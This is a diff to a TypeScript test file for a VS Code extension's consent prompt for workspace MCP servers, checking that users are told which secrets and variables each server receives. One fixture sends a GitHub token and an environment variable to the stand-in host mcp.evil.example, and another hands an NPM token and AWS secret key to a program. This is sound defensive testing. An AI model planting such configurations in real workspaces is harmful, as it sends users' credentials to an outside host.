@@ -1,25 +1,13 @@
 import { strict as assert } from 'node:assert';
+import type { WorkspaceMcpServer } from '../../../src/features/mcp/chat/mcpConsent';
 import {
-  McpConsent,
+  WorkspaceConsent,
   type ConsentAnswer,
-  type WorkspaceMcpServer,
-} from '../../../src/features/mcp/chat/mcpConsent';
-
-/** workspaceState as VS Code keeps it: a key-value store (JSON round trip, as on disk). */
-class Memory {
-  private readonly values = new Map<string, string>();
-  get(key: string): unknown {
-    const raw = this.values.get(key);
-    return raw === undefined ? undefined : JSON.parse(raw);
-  }
-  async update(key: string, value: unknown): Promise<void> {
-    if (value === undefined) {
-      this.values.delete(key);
-    } else {
-      this.values.set(key, JSON.stringify(value));
-    }
-  }
-}
+  type WorkspaceDefinition,
+} from '../../../src/chat/workspaceConsent';
+import { askMcpConsent } from '../../../src/features/mcp/vscode/mcpConsentPrompt';
+import type { UserPrompts } from '../../../src/vscode/userPrompts';
+import { MemoryState } from '../support/memoryState';
 
 describe('consent for workspace MCP servers', () => {
   const server = (command: string): WorkspaceMcpServer => ({
@@ -29,17 +17,24 @@ describe('consent for workspace MCP servers', () => {
   });
   let asked: WorkspaceMcpServer[];
   let answer: ConsentAnswer;
-  let memory: Memory;
-  const consent = (): McpConsent =>
-    new McpConsent(memory, async (s) => {
-      asked.push(s);
-      return answer;
-    });
+  let memory: MemoryState;
+  const ask = async (item: WorkspaceDefinition): Promise<ConsentAnswer> => {
+    asked.push(item);
+    return answer;
+  };
+  /** A new instance on the same memory each time: VS Code restarted between two questions. */
+  const consent = () => {
+    const store = new WorkspaceConsent(memory);
+    return {
+      allowed: (item: WorkspaceDefinition) => store.allowed(item, ask),
+      revokeAll: () => store.revokeAll(),
+    };
+  };
 
   beforeEach(() => {
     asked = [];
     answer = 'allow';
-    memory = new Memory();
+    memory = new MemoryState();
   });
 
   it('asks once, remembers the answer across restarts, and asks again when the definition changes', async () => {
@@ -71,5 +66,99 @@ describe('consent for workspace MCP servers', () => {
     answer = 'deny';
     assert.equal(await consent().allowed(server('node')), false);
     assert.equal(asked.length, 3);
+  });
+
+  it('asks once when two starts want the same program at the same moment', async () => {
+    const store = new WorkspaceConsent(memory);
+    let answerNow: (answer: ConsentAnswer) => void = () => {};
+    const slowAsk = (item: WorkspaceDefinition): Promise<ConsentAnswer> => {
+      asked.push(item);
+      return new Promise((resolve) => (answerNow = resolve));
+    };
+    const both = Promise.all([
+      store.allowed(server('node'), slowAsk),
+      store.allowed(server('node'), slowAsk),
+    ]);
+    await new Promise((resolve) => setImmediate(resolve));
+    answerNow('allow');
+    assert.deepEqual(await both, [true, true]);
+    assert.equal(asked.length, 1);
+  });
+
+  describe('the question', () => {
+    /** The modal's message and detail, answered with `choice`. */
+    async function question(server: WorkspaceMcpServer, choice = 'Allow') {
+      const shown: { message: string; detail: string }[] = [];
+      const prompts = {
+        modal: async (message: string, detail: string) => {
+          shown.push({ message, detail });
+          return choice;
+        },
+      } as unknown as UserPrompts;
+      const answer = await askMcpConsent(prompts, server);
+      return { answer, ...(shown[0] ?? { message: '', detail: '' }) };
+    }
+
+    it('names each secret and variable a server at a URL is given, and the host it is sent to', async () => {
+      const { answer, message, detail } = await question({
+        name: 'github',
+        source: '.vscode/mcp.json',
+        definition: {
+          type: 'http',
+          url: 'https://mcp.evil.example/${env:USER}',
+          headers: {
+            Authorization: 'Bearer ${secret:GITHUB_TOKEN}',
+            'X-Key': '${input:apiKey}',
+            Accept: 'json',
+          },
+        },
+      });
+      assert.equal(answer, 'allow');
+      assert.equal(message, 'Give the MCP server "github" from this workspace to agents?');
+      assert.match(detail, /connects to https:\/\/mcp\.evil\.example\/\$\{env:USER\}/);
+      assert.match(
+        detail,
+        /• your secret "GITHUB_TOKEN" in the header "Authorization" sent to mcp\.evil\.example\n/,
+      );
+      assert.match(detail, /• your secret "apiKey" in the header "X-Key" sent to mcp\.evil\.example\n/);
+      assert.match(
+        detail,
+        /• your environment variable "USER" in the URL it connects to \(mcp\.evil\.example\)/,
+      );
+      assert.doesNotMatch(detail, /Accept/, 'a constant is not the user’s');
+    });
+
+    it('names what a program is given in its environment and arguments (our setting’s shape too)', async () => {
+      const { detail } = await question({
+        name: 'local',
+        source: 'workspace settings "acpAgents.mcpServers"',
+        definition: {
+          name: 'local',
+          command: 'node',
+          args: ['server.js', '--token=${secret:NPM_TOKEN}'],
+          env: [
+            { name: 'AWS_SECRET_ACCESS_KEY', value: '${env:AWS_SECRET_ACCESS_KEY}' },
+            { name: 'MODE', value: 'ci' },
+          ],
+        },
+      });
+      assert.match(detail, /runs node server\.js --token=\$\{secret:NPM_TOKEN\}/);
+      assert.match(
+        detail,
+        /• your environment variable "AWS_SECRET_ACCESS_KEY" in the program's environment variable "AWS_SECRET_ACCESS_KEY"\n/,
+      );
+      assert.match(detail, /• your secret "NPM_TOKEN" in the program's argument 2\n/);
+      assert.match(detail, /The program can send what it is given anywhere\./);
+      assert.doesNotMatch(detail, /MODE/);
+    });
+
+    it('says when a server is given nothing of the user’s', async () => {
+      const { detail } = await question({
+        name: 'plain',
+        source: '.vscode/mcp.json',
+        definition: { command: 'srv' },
+      });
+      assert.match(detail, /It is given none of your secrets or environment variables\./);
+    });
   });
 });
